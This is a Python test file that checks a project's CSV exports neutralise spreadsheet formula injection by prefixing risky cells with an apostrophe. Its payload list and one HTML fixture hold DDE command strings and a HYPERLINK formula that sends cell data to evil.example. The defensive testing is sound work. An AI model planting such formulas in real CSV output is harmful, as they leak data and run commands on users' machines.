"""CSV formula injection: no CSV the project writes starts a text cell with a formula."""

from __future__ import annotations

import csv
import io
import sqlite3

import pandas as pd
from hostile import article
from typer.testing import CliRunner

from arahan.app.exporting import csv_bytes
from arahan.app.fixtures import generate_store
from arahan.cli import app
from arahan.corpus.csvcell import FORMULA_START, safe_cell

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def _formulas(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row
            if cell.startswith(FORMULA_START) and safe_cell(cell) != cell]


def test_cells_are_neutralised_as_owasp_says():
    for payload in PAYLOADS:
        assert safe_cell(payload) == "'" + payload
    for keep in ("-12", "+62.5", "1e5", "Bupati", "", None, 3, -4.5):
        assert safe_cell(keep) == keep


def test_graph_export_csv_neutralises_labels(tmp_path):
    db = tmp_path / "arahan.db"
    generate_store(db, directives=20, seed=3)
    with sqlite3.connect(db) as conn:
        ids = [r[0] for r in conn.execute("SELECT id FROM graph_nodes WHERE type IN ('Person', 'Organization') LIMIT 6")]
        for node, payload in zip(ids, PAYLOADS):
            conn.execute("UPDATE graph_nodes SET label = ? WHERE id = ?", (payload, node))
    out = tmp_path / "ekspor"
    result = CliRunner().invoke(app, ["graph", "export", "--format", "csv", "--out", str(out), "--db", str(db)])
    assert result.exit_code == 0, result.output
    nodes = (out / "nodes.csv").read_text(encoding="utf-8")
    assert "'=HYPERLINK" in nodes and not _formulas(nodes)
    assert not _formulas((out / "edges.csv").read_text(encoding="utf-8"))


def test_app_downloads_neutralise_text_and_keep_numbers_and_dates():
    table = pd.DataFrame({"outlet": PAYLOADS, "sources": [1, 2, 3, 4, 5, -6],
                          "date": pd.to_datetime(["2024-06-21"] * 6)})
    text = csv_bytes(table).decode("utf-8")
    assert not _formulas(text)
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["outlet"] == "'" + PAYLOADS[0] and rows[5]["sources"] == "-6" and rows[0]["date"] == "2024-06-21"


def test_an_og_site_name_formula_is_neutralised_from_page_to_csv(tmp_path):
    """A page's og:site_name of =HYPERLINK(...) becomes the outlet; the CSV shows it as text."""
    payload = '=HYPERLINK("http://evil.example/?"&A1,"klik")'
    meta = '<meta property="og:site_name" content="=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1,&quot;klik&quot;)">'
    page = tmp_path / "berita.html"
    page.write_text(article("Bupati Sleman Minta Camat Data Warga", 3).decode().replace("<head>", "<head>" + meta))
    db, out = str(tmp_path / "og.db"), tmp_path / "ekspor"
    runner = CliRunner()
    assert runner.invoke(app, ["import", str(page), "--db", db]).exit_code == 0
    assert runner.invoke(app, ["extract", "--db", db]).exit_code == 0
    assert runner.invoke(app, ["graph", "export", "--format", "csv", "--out", str(out), "--db", db]).exit_code == 0
    nodes = (out / "nodes.csv").read_text(encoding="utf-8")
    assert "'" + payload in {cell for row in csv.reader(io.StringIO(nodes)) for cell in row}   # the outlet cell
    assert not _formulas(nodes)
